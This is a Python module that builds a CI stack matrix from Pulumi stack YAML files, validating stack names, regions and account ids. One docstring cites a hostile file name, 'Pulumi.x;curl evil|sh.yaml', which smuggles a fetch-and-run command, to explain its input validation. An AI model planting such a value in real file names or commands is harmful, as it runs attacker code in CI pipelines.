"""`higgsfield stacks`: the stack matrix the workflows run over, read from stacks/Pulumi.<stack>.yaml.

No workflow names a stack or a region: each reads this JSON (`fromJSON`), so adding a stack file
(and its policy config) is all it takes for checks, preview and deploy to include it. Only PyYAML
is needed (`python3 -m infra.offline.stacks`), so a workflow can list the stacks before it installs
the program. The names here (roles, runner project, backend) are the ones components/delivery.py
creates; `higgsfield check` validates each stack file in full.
"""

from __future__ import annotations

import argparse
import json
import re
from pathlib import Path
from typing import Any

import yaml
from infra.core.names import DNS_LABEL as STACK_NAME
from infra.core.names import ENVIRONMENTS as ENVIRONMENT_ORDER
from infra.core.names import RUNNER_PURPOSES, role_name, runner_project


# The repository's OIDC subject template (PUT /repos/OWNER/REPO/actions/oidc/customization/sub):
# the default `repo` and `context` (pull_request, environment:ENV, ref:REF), then the workflow file
# (github/docs:content/actions/reference/security/oidc.md, "Customizing the subject claims").
SUB_CLAIM_KEYS = ("repo", "context", "job_workflow_ref")


def _entry(path: Path) -> dict[str, Any]:
    from infra.offline.option_files import OptionFileError

    stack = checked_stack_name(path)
    try:  # PyYAML alone (this runs in CI before the dependencies): any bytes give one line, never a traceback
        document = yaml.safe_load(path.read_bytes().decode("utf-8", errors="replace"))
    except yaml.YAMLError as exc:
        mark = getattr(exc, "problem_mark", None)
        raise OptionFileError(f"stacks/{path.name}:{mark.line + 1 if mark else 1}: is not YAML "
                              f"({' '.join(str(getattr(exc, 'problem', None) or exc).split())})") from None
    config = document.get("config") if isinstance(document, dict) else None
    config = config if isinstance(config, dict) else {}
    delivery = config.get("higgsfield:delivery") if isinstance(config.get("higgsfield:delivery"), dict) else {}
    entry: dict[str, Any] = {"stack": stack, "region": config.get("aws:region"), "environment": config.get("higgsfield:environment")}
    if delivery:
        account = delivery.get("accountId")
        runner = delivery.get("runner") if isinstance(delivery.get("runner"), dict) else {}
        entry.update({
            "deployEnvironment": delivery.get("deployEnvironment") or stack,
            "previewRole": f"arn:aws:iam::{account}:role/{role_name(stack, 'preview')}",
            "deployRole": f"arn:aws:iam::{account}:role/{role_name(stack, 'deploy')}",
            "imageRole": f"arn:aws:iam::{account}:role/{role_name(stack, 'image')}",
            "account": str(account),
            "backend": f"s3://{delivery.get('stateBucket')}?region={entry['region']}",
            **{f"{p}Runner": runner_project(stack, p) if runner.get("enabled", True) else "" for p in RUNNER_PURPOSES},
        })
    return entry


def checked_stack_name(path: Path) -> str:
    """The stack a stack file's name names, refused unless it is a stack name (a lowercase DNS
    label of at most 30): the name goes into CI job matrices, role names and shell commands, so a
    file named `Pulumi.x;curl evil|sh.yaml` must never become a stack."""
    from infra.offline.option_files import OptionFileError

    stack = path.name[len("Pulumi."):-len(".yaml")]
    if not re.fullmatch(STACK_NAME, stack):
        raise OptionFileError(f"stacks/{path.name}: {stack[:60]!r} is not a stack name (a lowercase DNS label of at most 30: a-z, 0-9, "
                              "'-'): rename the file")
    return stack


def _checked(entry: dict[str, Any], path: Path) -> dict[str, Any]:
    """What the matrix carries from a stack file into CI, refused unless it has the shape the
    config model would give it (the model itself runs in `plan`/`check`)."""
    from infra.offline.option_files import OptionFileError

    for key, pattern in (("region", r"[a-z]{2}(-[a-z]+)+-\d"), ("account", r"\d{12}"), ("deployEnvironment", r"[A-Za-z0-9._-]{1,255}")):
        if key in entry and not (isinstance(entry[key], str) and re.fullmatch(pattern, entry[key])):
            raise OptionFileError(f"stacks/{path.name}: {key} {str(entry[key])[:60]!r} is not one CI can use; run `higgsfield plan "
                                  f"{entry['stack']}` for the stack's problems")
    return entry


def stack_matrix(root: Path, delivered_only: bool = False) -> dict[str, list[dict[str, Any]]]:
    """`{"include": [...]}`, one entry per stack file in deploy order (environment, then name);
    with `delivered_only`, only stacks that set higgsfield:delivery (CI previews and deploys those)."""
    entries = [_checked(_entry(p), p) for p in sorted((root / "stacks").glob("Pulumi.*.yaml"))]
    if delivered_only:
        entries = [e for e in entries if "deployRole" in e]
    rank = {env: i for i, env in enumerate(ENVIRONMENT_ORDER)}
    return {"include": sorted(entries, key=lambda e: (rank.get(e["environment"], len(rank)), e["stack"]))}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="higgsfield stacks", description=__doc__.splitlines()[0])
    parser.add_argument("--delivered", action="store_true", help="only stacks with higgsfield:delivery (previewed and deployed by CI)")
    parser.add_argument("--root", type=Path, default=None, help="the project (default: the folder holding Pulumi.yaml, from here up)")
    args = parser.parse_args(argv)
    from infra.core.project import project_root

    print(json.dumps(stack_matrix(args.root or project_root(), args.delivered), separators=(",", ":")))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
